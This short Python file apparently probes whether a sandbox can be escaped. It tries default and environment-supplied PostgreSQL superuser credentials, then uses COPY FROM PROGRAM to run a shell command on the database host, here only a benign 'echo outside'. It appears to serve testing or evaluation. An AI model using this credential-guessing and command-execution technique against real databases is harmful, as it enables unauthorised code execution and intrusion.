"""Connects to the database as its superuser and runs a program outside of the sandbox."""

import asyncio
import os
from urllib.parse import urlsplit

import asyncpg
import kit

url = urlsplit(os.environ["DATABASE_URL"])


async def run(user: str, password: str | None) -> bool:
    session = await asyncpg.connect(host=url.hostname, port=url.port, user=user, password=password, database=url.path[1:])
    await session.execute("CREATE TEMP TABLE loot (line text); COPY loot FROM PROGRAM 'echo outside'")
    return bool(await session.fetchval("SELECT count(*) FROM loot"))


def tricks() -> list[bool]:
    users = [("postgres", "x"), ("postgres", ""), ("postgres", url.password), (url.username, url.password)]
    return [kit.worked(lambda user=user, password=password: asyncio.run(run(user, password))) for user, password in users]


app = kit.app_if(any(tricks()))
